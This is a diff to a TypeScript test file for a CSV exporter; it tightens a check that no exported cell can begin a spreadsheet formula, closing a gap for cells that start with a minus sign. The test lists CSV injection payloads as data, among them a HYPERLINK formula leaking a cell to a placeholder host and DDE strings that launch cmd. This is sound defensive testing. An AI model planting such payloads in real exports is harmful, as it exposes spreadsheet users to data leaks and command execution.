@@ -19,9 +19,10 @@ import { bufferIo, temporaryDirectory, tinyScenario, writeScenarioFile } from '.
 // What a spreadsheet would run: the attack strings of the OWASP CSV injection page and the issue.
 const FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
 
-/** True when no cell of a CSV text starts a formula (a neutralised cell starts with a quote; numbers are plain). */
+/** True when no cell of a CSV text starts a formula: a neutralised cell starts with a quote; a cell starting with - is a plain number. */
 function everyCellInert(text: string): boolean {
-  return parseCsv(text).every((record) => record.every((cell) => !/^[=+@\t\r]/.test(cell) && (!cell.startsWith('-') || /^-[\d.]/.test(cell))));
+  const number = /^-(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;
+  return parseCsv(text).every((record) => record.every((cell) => !/^[=+@\t\r]/.test(cell) && (!cell.startsWith('-') || number.test(cell))));
 }
 
 describe('CSV cells', () => {
